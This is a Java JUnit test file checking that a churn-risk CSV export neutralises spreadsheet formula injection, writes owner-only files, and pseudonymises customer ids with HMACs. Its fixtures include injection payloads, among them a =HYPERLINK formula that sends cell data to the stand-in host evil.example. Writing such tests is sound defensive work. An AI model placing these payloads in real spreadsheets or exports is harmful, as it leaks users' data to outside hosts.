package io.retention.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.retention.churn.ChurnScorer;
import io.retention.schema.ClvColumns;
import io.retention.schema.Columns;
import io.retention.schema.Schemas;
import io.retention.testing.SharedSpark;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.Date;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVRecord;
import org.apache.spark.sql.Dataset;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.types.DataTypes;
import org.junit.jupiter.api.Test;

/** Hostile ids and texts survive a standard CSV reader neutralised; the file is atomic and owner-only. */
class AtRiskExportTest {
  private static final LocalDate AS_OF = LocalDate.parse("2024-06-30");
  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
  private static final String QUOTED = "say \"hi\", bye";
  private static final String NEWLINES = "line1\nline2\r\nline3";

  private static Dataset<Row> scores() {
    Object[][] s = {
        {HYPERLINK, 0.91, "high", "no purchase for 64 days, 2.9× the usual gap; orders fell from 2 to 0"},
        {"+1", 0.75, "high", "-30% trend"},
        {"@SUM(A1:A9)", 0.55, "medium", "@reason"},
        {QUOTED, 0.40, "medium", "=1+1"},
        {NEWLINES, 0.20, "low", "\tstarts with a tab"},
        {"-2", 0.10, "low", "\rstarts with a CR"},
        {"plain", 0.05, "low", "buys regularly, no warning signs"},
        {"other-day", 0.99, "high", "scored another day"}};
    List<Row> rows = new ArrayList<>();
    for (Object[] r : s) {
      LocalDate d = "other-day".equals(r[0]) ? AS_OF.minusDays(1) : AS_OF;
      rows.add(RowFactory.create(r[0], Date.valueOf(d), r[1], r[2], r[3], "v1", 64.0,
          "plain".equals(r[0]) ? null : 22.1, Date.valueOf("2024-04-27"), Date.valueOf("2024-05-19"), 42));
    }
    return SharedSpark.get().createDataFrame(rows, ChurnScorer.SCHEMA);
  }

  private static Dataset<Row> clv() {
    String[][] c = {{HYPERLINK, "100.00"}, {"+1", "500.00"}, {"@SUM(A1:A9)", "50.00"}, {QUOTED, "-5.00"},
        {NEWLINES, "1000.00"}, {"-2", "0.00"}};
    List<Row> rows = new ArrayList<>();
    for (String[] r : c) {
      rows.add(RowFactory.create(r[0], new BigDecimal(r[1])));
    }
    return SharedSpark.get().createDataFrame(rows, Schemas.struct(
        Schemas.field(Columns.CUSTOMER_ID, DataTypes.StringType),
        Schemas.field(ClvColumns.PREDICTED_CLV, Schemas.MONEY)));
  }

  private static AtRiskExport.Options options(Path out, Integer top, byte[] key) {
    return new AtRiskExport.Options(AS_OF, out.toString(), top, null, key, AtRiskExport.Rules.defaults());
  }

  @Test
  void hostileCellsRoundTripNeutralisedAndInValueOrder() throws Exception {
    Path out = SharedSpark.tempDir("export");
    Dataset<Row> rows = AtRiskExport.compute(scores(), clv(), options(out, null, null));
    List<Row> expected = rows.collectAsList();
    ExportWriter.Written w = ExportWriter.write(rows, out, AS_OF, "v1");

    assertThat(w.localFile()).isEqualTo(out.toAbsolutePath().resolve("at_risk/2024-06-30/at_risk_2024-06-30.csv"));
    assertThat(ExportCsv.header(w.localFile())).containsExactly(AtRiskExport.COLUMNS);
    List<CSVRecord> parsed = ExportCsv.read(w.localFile());
    ExportCsv.assertSameRows(expected, parsed);
    assertThat(parsed.stream().map(r -> r.get(0)).toList()).containsExactly(
        "+1", NEWLINES, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(A1:A9)", "-2",
        QUOTED, "plain"); // value at risk 375, 200, 91, 27.50, 0, -2, unknown CLV last; numeric ids unchanged
    for (CSVRecord r : parsed) {
      assertThat(r.get(0)).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("\t");
      for (int i : new int[] {2, 3, 12, 13, 14}) {
        assertThat(r.get(i)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
      }
    }
    CSVRecord quoted = parsed.stream().filter(r -> r.get(0).equals(QUOTED)).findFirst().orElseThrow();
    assertThat(quoted.get(4)).isEqualTo("-5.00"); // a negative number stays a number
    assertThat(quoted.get(3)).isEqualTo("'=1+1");
    assertThat(parsed.get(0).get(13)).isEqualTo(AtRiskExport.VIP_CALL);
    assertThat(parsed.get(parsed.size() - 1).get(13)).isEqualTo(AtRiskExport.NO_ACTION); // "plain": band low
    ExportCsv.assertNoContradictions(parsed);

    Map<?, ?> manifest = new ObjectMapper().readValue(w.localFolder().resolve(ExportWriter.MANIFEST).toFile(), Map.class);
    assertThat(manifest.get("rows")).isEqualTo(7);
    assertThat(manifest.get("sha256")).isEqualTo(ExportWriter.sha256(w.localFile()));
    assertThat(manifest.get("model_version")).isEqualTo("v1");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(w.localFile()))).isEqualTo("rw-------");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(w.localFolder()))).isEqualTo("rwx------");
    try (Stream<Path> s = Files.list(w.localFolder().getParent())) {
      assertThat(s.map(p -> p.getFileName().toString()).toList()).containsExactly("2024-06-30");
    }
    assertThat(new String(Files.readAllBytes(w.localFile()), StandardCharsets.UTF_8)).contains("2.9×");
  }

  @Test
  void topNAndRerunReplaceTheFolder() throws Exception {
    Path out = SharedSpark.tempDir("export");
    ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, null, null)), out, AS_OF, "v1");
    ExportWriter.Written w = ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, 2, null)), out,
        AS_OF, "v2");
    assertThat(ExportCsv.read(w.localFile())).extracting(r -> r.get(0)).containsExactly("+1", NEWLINES);
    try (Stream<Path> s = Files.list(w.localFolder().getParent())) {
      assertThat(s.count()).isEqualTo(1);
    }
  }

  @Test
  void pseudonymsAreKeyedStableHmacs() {
    byte[] key = "0123456789abcdef-test-key".getBytes(StandardCharsets.UTF_8);
    List<Row> rows = AtRiskExport.compute(scores(), clv(), options(Path.of("x"), null, key)).collectAsList();
    assertThat(rows).extracting(r -> r.getString(0)).allMatch(id -> id.matches("[0-9a-f]{64}"))
        .contains(CsvSafety.pseudonym(key, "+1")).doesNotContain("'+1");
    assertThat(CsvSafety.pseudonym(key, "+1")).isNotEqualTo(CsvSafety.pseudonym("another-key-0123456".getBytes(
        StandardCharsets.UTF_8), "+1"));
  }

  @Test
  void badOptionsAreRefusedWithTheirValue() {
    assertThatThrownBy(() -> new AtRiskExport.Options(AS_OF, "x", 5, 0.5, null,
        AtRiskExport.Rules.defaults())).hasMessage("export: give either a top N or a minimum risk, not both");
    assertThatThrownBy(() -> options(Path.of("x"), 0, null)).hasMessage("export: top must be at least 1, cannot be: 0");
    assertThatThrownBy(() -> options(Path.of("x"), null, new byte[4]))
        .hasMessage("export: the HMAC key must be at least 16 bytes, cannot be: 4 bytes");
  }
}
